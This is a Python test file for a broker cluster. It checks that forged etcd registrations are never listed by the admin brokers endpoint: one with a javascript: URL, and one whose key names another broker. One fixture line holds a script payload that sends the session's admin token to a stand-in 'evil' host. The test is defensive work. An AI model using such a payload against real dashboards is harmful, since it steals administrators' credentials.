"""A broker registration that names no broker's address (a `javascript:` HTTP URL, a
key naming another broker) is never served: the cluster's broker list, its redirects
and the dashboard links built from it see only real addresses."""

from __future__ import annotations

import asyncio
import json
import urllib.request
from collections.abc import Iterator

import pytest

from stableline.metadata import open_metadata_store
from stableline.metadata.layout import broker_path
from stableline.testing import BrokerProcess
from tests.conftest import wait_until

from .conftest import SHORT_SESSION_TIMEOUT_S, EtcdServer, cluster_brokers, new_cluster_name


@pytest.fixture(scope="module")
def lone(cluster_etcd: EtcdServer, tmp_path_factory) -> Iterator[tuple[str, BrokerProcess]]:
    name = new_cluster_name()
    (broker,) = cluster_brokers(
        cluster_etcd, name, tmp_path_factory.mktemp("forged"), 1, SHORT_SESSION_TIMEOUT_S
    )
    with broker.running():
        yield name, broker


def _registration(broker_id: str, http_url: str) -> bytes:
    return json.dumps(
        {
            "broker_id": broker_id,
            "grpc_address": broker_id,
            "http_url": http_url,
            "version": "x",
            "started_ms": 0,
            "hostname": "elsewhere",
            "pid": 1,
            "instance": "forged",
        }
    ).encode()


def _write(etcd: EtcdServer, keys: dict[str, bytes | None]) -> None:
    async def write() -> None:
        store = await open_metadata_store(etcd.url)
        try:
            for path, value in keys.items():
                if value is None:
                    await store.delete(path)
                else:
                    await store.put(path, value)
        finally:
            await store.close()

    asyncio.run(write())


def _listed(broker: BrokerProcess, cluster: str) -> dict[str, str]:
    url = f"{broker.http_url}/admin/v2/clusters/{cluster}/brokers"
    with urllib.request.urlopen(url, timeout=10) as reply:
        return {b["brokerId"]: b["httpUrl"] for b in json.load(reply)}


def test_a_registration_with_a_javascript_url_is_not_listed(cluster_etcd, lone):
    cluster, broker = lone
    forged = {
        broker_path(cluster, "10.6.6.6:6650"): _registration(
            "10.6.6.6:6650", "javascript:fetch('//evil/'+sessionStorage.adminToken)"
        ),
        # A key that claims to be another broker.
        broker_path(cluster, "10.6.6.7:6650"): _registration("10.6.6.8:6650", "http://e:1"),
        # Written last, and well formed: once it is listed the others were read.
        broker_path(cluster, "10.6.6.9:6650"): _registration("10.6.6.9:6650", "http://e:1"),
    }
    _write(cluster_etcd, forged)
    try:
        wait_until(lambda: "10.6.6.9:6650" in _listed(broker, cluster), 10, "the marker")
        listed = _listed(broker, cluster)
        assert set(listed) == {f"127.0.0.1:{broker.grpc_port}", "10.6.6.9:6650"}
        assert all(url.startswith(("http://", "https://")) for url in listed.values())
        assert broker.process.poll() is None
    finally:
        _write(cluster_etcd, dict.fromkeys(forged))
